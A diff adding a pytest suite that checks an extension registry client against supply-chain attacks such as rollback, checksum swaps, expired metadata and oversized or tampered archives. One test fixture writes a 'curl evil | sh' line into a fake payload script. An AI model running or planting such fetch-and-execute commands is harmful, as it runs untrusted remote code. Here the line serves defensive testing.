@@ -1,0 +1,192 @@
+"""Attacks on a registry (SPEC 5.4, after The Update Framework's list), python-tuf style:
+change one thing in the served registry, run the client, assert the error code, then assert
+that local state (installed extensions, the registry memory, the download cache) did not move."""
+
+from __future__ import annotations
+
+import hashlib
+from datetime import datetime, timedelta, timezone
+from pathlib import Path
+from typing import Any, Iterator
+
+import pytest
+
+from tests.registry.helpers import RegistryDir, archive_bytes, state_snapshot
+from tests.support.cli import run_cli
+from tests.support.servers import FaultServer, Reply, StaticFileServer
+
+
+
+def cache_files(home: Path) -> list[str]:
+    root = home / "cache" / "downloads" / "sha256"
+    return sorted(p.name for p in root.rglob("*") if p.is_file()) if root.is_dir() else []
+
+
+class Client:
+    """The installed client and what must not move when it is attacked."""
+
+    def __init__(self, home: Path) -> None:
+        self.home = home
+
+    def run(self, *args: str) -> Any:
+        return run_cli([*args, "-o", "json"])
+
+    def ok(self, *args: str) -> dict:
+        result = self.run(*args)
+        assert result.code == 0, result
+        return result.json
+
+    def snapshot(self, *, cache: bool = True) -> dict:
+        return {"state": state_snapshot(self.home), "cache": cache_files(self.home) if cache else None}
+
+    def refused(self, code: str, *args: str, cache: bool = True) -> dict:
+        """`cache=False`: the archive matched its sha256 (and may be cached); only the
+        manifest disagrees with the entry."""
+        before = self.snapshot(cache=cache)
+        result = self.run(*args)
+        assert result.code == 4 if code != "version_not_found" else 5, result
+        assert result.json["error"]["code"] == code, result
+        assert self.snapshot(cache=cache) == before, "local state moved under attack"
+        return result.json
+
+
+@pytest.fixture
+def reg(tmp_path: Path) -> RegistryDir:
+    return RegistryDir(tmp_path / "index", "acme")
+
+
+@pytest.fixture
+def client(home: Path, reg: RegistryDir) -> Iterator[Client]:
+    reg.publish("demo-ext", "0.1.0")
+    with StaticFileServer(reg.root) as server:
+        c = Client(home)
+        c.ok("registry", "add", "acme", server.url)
+        c.ok("ext", "install", "demo-ext")  # the client has now seen serial and checksums
+        yield c
+
+
+def test_rollback_attack(reg: RegistryDir, client: Client) -> None:
+    reg.publish("demo-ext", "0.2.0")
+    client.ok("ext", "update", "--all", "--check")  # serial 3 seen
+    reg.serial = 2  # a mirror replays an older registry.toml
+    reg.write()
+    doc = client.refused("registry_rollback", "ext", "update", "--all")
+    assert doc["failed"][0]["error"]["code"] == "registry_rollback"
+    client.refused("registry_rollback", "ext", "install", "demo-ext@0.2.0")
+
+
+def test_index_json_rollback_is_refused_by_search(reg: RegistryDir, client: Client) -> None:
+    old_index = (reg.root / "index.json").read_bytes()
+    reg.publish("demo-ext", "0.2.0")
+    client.ok("ext", "search")
+    (reg.root / "index.json").write_bytes(old_index)
+    client.refused("registry_rollback", "ext", "search")
+
+
+def test_checksum_changed_attack(reg: RegistryDir, client: Client) -> None:
+    evil = archive_bytes("demo-ext", "0.1.0", files={"payload.sh": "curl evil | sh"})
+    (reg.root / "archives" / "demo-ext-0.1.0.tar.gz").write_bytes(evil)
+    reg.change("demo-ext", "0.1.0", sha256=hashlib.sha256(evil).hexdigest(), size=len(evil))
+    client.refused("registry_checksum_changed", "ext", "install", "demo-ext@0.1.0", "--force")
+    client.refused("registry_checksum_changed", "ext", "info", "demo-ext")
+
+
+def test_freeze_attack_expired_registry(reg: RegistryDir, client: Client) -> None:
+    reg.expires = (datetime.now(timezone.utc) - timedelta(days=1)).strftime("%Y-%m-%dT%H:%M:%SZ")
+    reg.publish("demo-ext", "0.2.0")
+    client.refused("registry_expired", "ext", "update", "--all")
+    client.refused("registry_expired", "ext", "install", "demo-ext@0.2.0")
+    updated = client.ok("ext", "update", "--all", "--allow-expired")["updated"]
+    assert updated[0]["version"] == "0.2.0"
+
+
+def test_vanished_version_is_treated_as_yanked(reg: RegistryDir, client: Client) -> None:
+    reg.publish("demo-ext", "0.2.0")
+    client.ok("ext", "update", "--all", "--check")  # 0.2.0 seen
+    reg.remove_version("demo-ext", "0.2.0")
+    result = client.run("ext", "install", "demo-ext@0.2.0")
+    assert result.code == 5 and result.json["error"]["code"] == "version_not_found"
+    assert "vanished" in result.json["error"]["message"] and "treated as yanked" in result.stderr
+    info = client.ok("ext", "info", "demo-ext")
+    assert info["vanished"] == ["0.2.0"]
+
+
+def test_arbitrary_software_attack_checksum_mismatch(reg: RegistryDir, client: Client) -> None:
+    reg.publish("demo-ext", "0.2.0")
+    client.ok("ext", "update", "--all", "--check")  # the (genuine) metadata is seen; the archive is attacked
+    evil = archive_bytes("demo-ext", "0.2.0", files={"payload.sh": "x"})
+    good_size = reg.version("demo-ext", "0.2.0")["size"]
+    (reg.root / "archives" / "demo-ext-0.2.0.tar.gz").write_bytes(evil[:good_size].ljust(good_size, b"\0"))
+    client.refused("checksum_mismatch", "ext", "update", "--all")
+    client.refused("checksum_mismatch", "ext", "install", "demo-ext@0.2.0", "--allow-unverified", "--yes")
+
+
+def test_shorter_body_is_a_checksum_mismatch(reg: RegistryDir, client: Client) -> None:
+    published = reg.publish("demo-ext", "0.2.0")
+    client.ok("ext", "update", "--all", "--check")
+    (reg.root / published.url).write_bytes(published.data[:-10])
+    client.refused("checksum_mismatch", "ext", "install", "demo-ext@0.2.0")
+
+
+def test_endless_data_attack(reg: RegistryDir, client: Client) -> None:
+    published = reg.publish("demo-ext", "0.2.0")
+    client.ok("ext", "update", "--all", "--check")
+    (reg.root / published.url).write_bytes(published.data + b"\0" * 4096)
+    client.refused("archive_too_large", "ext", "install", "demo-ext@0.2.0")
+
+
+def test_endless_stream_without_length(home: Path, tmp_path: Path) -> None:
+    reg = RegistryDir(tmp_path / "endless", "endless")
+    with FaultServer() as fault, StaticFileServer(reg.root) as static:
+        url = fault.script("/a.tar.gz", Reply(200, b"x" * 65536, endless=True))
+        reg.publish("demo-ext", "0.1.0", url=url, data=b"y" * 1000)
+        client = Client(home)
+        client.ok("registry", "add", "endless", static.url)
+        client.ok("ext", "info", "demo-ext")
+        client.refused("archive_too_large", "ext", "install", "demo-ext")
+
+
+def test_metadata_mismatch_entry_understates_permissions(reg: RegistryDir, client: Client) -> None:
+    data = archive_bytes("demo-ext", "0.2.0", grants=("session.read",))
+    reg.publish("demo-ext", "0.2.0", data=data, permissions=())
+    client.ok("ext", "update", "--all", "--check")
+    doc = client.refused("metadata_mismatch", "ext", "install", "demo-ext@0.2.0", cache=False)
+    assert "permissions" in doc["error"]["message"]
+
+
+def test_metadata_mismatch_on_min_host_version(reg: RegistryDir, client: Client) -> None:
+    data = archive_bytes("demo-ext", "0.2.0", min_compozy_version="0.9.0")
+    reg.publish("demo-ext", "0.2.0", data=data, min_compozy_version="0.5.0")
+    client.ok("ext", "update", "--all", "--check")
+    client.refused("metadata_mismatch", "ext", "install", "demo-ext@0.2.0", cache=False)
+
+
+def test_local_directory_registry_archive_is_verified_too(home: Path, tmp_path: Path) -> None:
+    reg = RegistryDir(tmp_path / "local", "local")
+    published = reg.publish("demo-ext", "0.1.0")
+    client = Client(home)
+    client.ok("registry", "add", "local", str(reg.root))
+    client.ok("ext", "info", "demo-ext")
+    (reg.root / published.url).write_bytes(published.data[:-1] + b"\1")
+    client.refused("checksum_mismatch", "ext", "install", "demo-ext")
+    (reg.root / published.url).write_bytes(published.data + b"more")
+    client.refused("archive_too_large", "ext", "install", "demo-ext")
+
+
+def test_hostile_entry_file_is_an_index_error(reg: RegistryDir, client: Client) -> None:
+    path = reg.root / "extensions" / "de" / "demo-ext.toml"
+    for hostile in (b"\xff\xfe garbage", b"name = [[[", b"a = 1\n" * 200_000, b'name = "demo-ext"\ntier = 5\n'):
+        path.write_bytes(hostile)
+        before = client.snapshot()
+        result = client.run("ext", "install", "demo-ext@0.1.0", "--force")
+        assert result.code == 3 and result.json["error"]["code"] == "invalid_index", result
+        assert "extensions/de/demo-ext.toml" in result.json["error"]["message"]
+        assert "Traceback" not in result.stderr
+        assert client.snapshot() == before
+
+
+def test_default_registry_is_exempt_from_rollback_memory(home: Path) -> None:
+    client = Client(home)
+    client.ok("ext", "search")
+    client.ok("registry", "refresh")
+    assert state_snapshot(home).get("serials", []) == []
